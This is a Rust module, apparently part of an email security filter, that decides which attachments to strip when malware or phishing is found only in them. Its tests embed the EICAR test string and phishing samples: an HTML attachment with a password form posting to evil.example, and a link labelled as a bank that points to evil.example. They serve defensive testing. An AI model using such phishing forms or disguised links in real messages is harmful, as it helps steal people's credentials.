//! Which attachments have to be taken out of a message for it to pass. Not guessed: a finding belongs to an attachment
//! when the same detector finds the same in that attachment alone, and in the message without any it does not.

use crate::content::files::is_file;
use crate::{Content, Evidence, Finding, detectors};
use mail::{Kind, Part};
use sha2::{Digest, Sha256};
use std::ops::Range;

/// One attachment that has to go.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Stripped {
    /// As [`Part::place`] counts.
    pub place: usize,
    pub name: String,
    pub content_type: String,
    pub octets: usize,
    /// In hexadecimal digits.
    pub sha256: String,
    /// What was found in it.
    pub why: Vec<String>,
}

/// All attachments in which one of these was found; `Err`: one of them is not, or not only, in attachments.
pub fn strip(evidence: &Evidence<'_>, findings: &[Finding]) -> Result<Vec<Stripped>, String> {
    let parts = evidence.parts;
    let same = |f: &Finding, all: &[Finding]| all.iter().any(|o| o.detector == f.detector && o.summary == f.summary);
    let elsewhere = found_in(evidence, &[]);
    if let Some(of_message) = findings.iter().find(|f| same(f, &elsewhere)) {
        return Err(of_the_rest(of_message));
    }
    let mut out: Vec<Stripped> = Vec::new();
    let mut left: Vec<&Finding> = findings.iter().collect();
    for range in places(parts) {
        let of_place = &parts[range];
        let Some(own) = of_place.first().filter(|p| may_go(p)) else { continue };
        let found = found_in(evidence, of_place);
        let why: Vec<&Finding> = findings.iter().filter(|f| same(f, &found)).collect();
        left.retain(|f| !same(f, &found));
        if !why.is_empty() {
            out.push(stripped(own, &why));
        }
    }
    if let Some(more) = left.first() {
        return Err(of_the_rest(more));
    }
    // two readings of one part, or the same in an attachment and in what is shown
    let rest: Vec<Part<'_>> =
        parts.iter().filter(|p| out.iter().all(|s| s.place != p.place)).map(Part::borrowed).collect();
    let remaining = found_in(evidence, &rest);
    match findings.iter().find(|f| same(f, &remaining)) {
        Some(still) => Err(of_the_rest(still)),
        None => Ok(out),
    }
}

fn of_the_rest(finding: &Finding) -> String {
    format!("what was found is not in an attachment alone: {}", finding.summary)
}

fn found_in(evidence: &Evidence<'_>, parts: &[Part<'_>]) -> Vec<Finding> {
    let content = Content::of(parts);
    detectors::inspect(&Evidence { parts, content: &content, ..*evidence })
}

/// Parts that stand at the same place stand behind each other.
fn places(parts: &[Part<'_>]) -> Vec<Range<usize>> {
    let mut all: Vec<Range<usize>> = Vec::new();
    for (n, part) in parts.iter().enumerate() {
        match all.last_mut() {
            Some(last) if parts[last.start].place == part.place => last.end = n + 1,
            _ => all.push(n..n + 1),
        }
    }
    all
}

/// What is shown stays; an attached message goes as a whole.
fn may_go(part: &Part<'_>) -> bool {
    part.kind == Kind::Message || is_file(part)
}

fn stripped(part: &Part<'_>, why: &[&Finding]) -> Stripped {
    Stripped {
        place: part.place,
        name: part.file_name.unwrap_or_default().to_owned(),
        content_type: part.content_type.clone(),
        octets: part.decoded.len(),
        sha256: Sha256::digest(&part.decoded).iter().map(|b| format!("{b:02x}")).collect(),
        why: why.iter().map(|f| f.summary.clone()).collect(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use crate::{Category, Ground, Saved};

    fn told(body: &str) -> String {
        let raw = format!("From: a@acme.example\nTo: b@contoso.example\nMIME-Version: 1.0\n{body}");
        let raw = raw.replace("{EICAR}", &crate::detectors::eicar::test_file());
        let saved = Saved::read(raw.into_bytes());
        let (findings, _) = saved.judge(&Ground::default(), 0);
        let wanted: Vec<_> = findings
            .into_iter()
            .filter(|f| matches!(f.category, Category::Malware | Category::Phishing) && f.points >= 100)
            .collect();
        let stripped = saved.strip(&["contoso.example".into()], &wanted);
        match stripped {
            Ok(all) => all
                .iter()
                .map(|s| {
                    format!(
                        "{} \"{}\" {} {} {}: {}\n",
                        s.place,
                        s.name,
                        s.content_type,
                        s.octets,
                        &s.sha256[..8],
                        s.why.join("; ")
                    )
                })
                .collect(),
            Err(why) => why + "\n",
        }
    }

    #[test]
    fn a_finding_belongs_to_the_attachment_in_which_it_is_found_alone() {
        let mixed = "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<p>hello</p>\n";
        let virus = "--m\nContent-Type: application/octet-stream; name=a.com\n\n{EICAR}\n";
        let harmless = "--m\nContent-Type: application/octet-stream; name=b.dat\n\nharmless\n";
        let page = "--m\nContent-Type: text/html; name=c.html\nContent-Disposition: attachment; filename=c.html\n\n<form action=https://evil.example/x><input type=password></form>\n";
        let inner =
            "--m\nContent-Type: message/rfc822\n\nContent-Type: application/octet-stream; name=d.com\n\n{EICAR}\n";
        let end = "--m--\n";
        let lie = mixed.replace("<p>hello</p>", "<a href=https://evil.example/>www.mybank.example</a>");
        let cases = [
            [mixed, virus, harmless, end].concat(),
            [mixed, harmless, page, virus, end].concat(),
            [mixed, inner, end].concat(),
            [lie.as_str(), virus, end].concat(),
            "Content-Type: application/octet-stream; name=a.com\n\n{EICAR}\n".to_owned(),
            [mixed, "--m\n\n{EICAR}\n", end].concat(),
        ];
        insta::assert_snapshot!(cases.iter().map(|c| told(c)).collect::<Vec<_>>().join("---\n"));
    }
}
